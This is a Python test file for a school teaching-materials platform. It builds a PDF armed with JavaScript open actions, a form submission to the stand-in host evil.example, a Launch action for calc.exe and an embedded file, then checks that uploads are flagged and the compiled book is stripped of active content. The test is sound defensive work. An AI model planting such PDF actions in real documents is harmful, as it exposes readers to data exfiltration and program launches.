"""PDFs with active content: flagged at upload, stripped from the bound collection."""

from __future__ import annotations

import io
from pathlib import Path

from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from tests.helpers import World, corpus

YEAR = "2025-2026"
SOURCE = "zh_pdf_06_kechengsizheng_jiaoxuesheji.pdf"
ACTIVE_KEYS = {"/JavaScript", "/JS", "/AA", "/OpenAction", "/EmbeddedFiles", "/Launch"}


def _js(code: str) -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                             NameObject("/JS"): TextStringObject(code)})


def _armed_pdf(tmp_path: Path) -> Path:
    """A real corpus PDF with an open action, page actions, a JS link, a launch link, a file."""
    writer = PdfWriter(clone_from=str(corpus(SOURCE)))
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([
        TextStringObject("boot"), writer._add_object(_js("app.alert('document level');"))])})
    names = writer.root_object.setdefault(NameObject("/Names"), DictionaryObject())
    names[NameObject("/JavaScript")] = writer._add_object(tree)
    writer.add_attachment("payload.txt", b"not for the book")
    writer.root_object[NameObject("/OpenAction")] = _js("app.launchURL('http://evil.example/');")
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _js("app.alert('page');")})
    rect = ArrayObject([FloatObject(v) for v in (50, 50, 200, 80)])
    for action in (_js("this.submitForm('http://evil.example/');"),
                   DictionaryObject({NameObject("/S"): NameObject("/Launch"),
                                     NameObject("/F"): TextStringObject("calc.exe")})):
        annot = DictionaryObject({NameObject("/Type"): NameObject("/Annot"),
                                  NameObject("/Subtype"): NameObject("/Link"),
                                  NameObject("/Rect"): rect, NameObject("/A"): action})
        page.setdefault(NameObject("/Annots"), ArrayObject()).append(writer._add_object(annot))
    path = tmp_path / "armed.pdf"
    with path.open("wb") as out:
        writer.write(out)
    return path


def _active_in(data: bytes) -> set[str]:
    """Active-content keys anywhere in the PDF's object graph."""
    reader = PdfReader(io.BytesIO(data))
    found: set[str] = set()
    seen: set[int] = set()

    def walk(obj: object, depth: int = 0) -> None:
        if depth > 60:
            return
        if hasattr(obj, "idnum"):
            if obj.idnum in seen:  # type: ignore[attr-defined]
                return
            seen.add(obj.idnum)  # type: ignore[attr-defined]
            obj = obj.get_object()  # type: ignore[attr-defined]
        if isinstance(obj, dict):
            for key, value in obj.items():
                if key in ACTIVE_KEYS:
                    found.add(key)
                if key == "/S" and value in ("/JavaScript", "/Launch"):
                    found.add(value)
                if key != "/Parent":
                    walk(value, depth + 1)
        elif isinstance(obj, list):
            for value in obj:
                walk(value, depth + 1)

    walk(reader.trailer["/Root"])
    return found


def test_active_content_is_flagged_and_stripped_from_the_book(world: World,
                                                               tmp_path: Path) -> None:
    armed = _armed_pdf(tmp_path)
    assert _active_in(armed.read_bytes()) >= {"/JavaScript", "/OpenAction", "/AA", "/Launch",
                                              "/EmbeddedFiles"}
    teacher = world.user("t1")
    plain = teacher.upload(corpus(SOURCE), kind="reflection", title="普通的 PDF").get_json()
    assert not any("主动内容" in w for w in plain["warnings"])
    item = teacher.upload(armed, kind="lesson_design", title="带脚本的教学设计").get_json()
    warning = next(w for w in item["warnings"] if "主动内容" in w)
    assert "JavaScript" in warning and "嵌入文件" in warning and "启动外部程序" in warning
    original = teacher.get(f"/api/v1/items/{item['id']}/original")
    assert original.headers["Content-Disposition"].startswith("attachment")
    res = world.admin.post(f"/api/v1/items/{item['id']}/selection", {"selected": True})
    assert res.status_code == 200, res.get_json()
    book = world.admin.get(f"/api/v1/collection.pdf?year={YEAR}&school=第一中学")
    assert book.status_code == 200, book.get_data(as_text=True)[:300]
    assert _active_in(book.data) == set()
    reader = PdfReader(io.BytesIO(book.data))
    assert len(reader.pages) >= 3 and "/Outlines" in reader.trailer["/Root"]
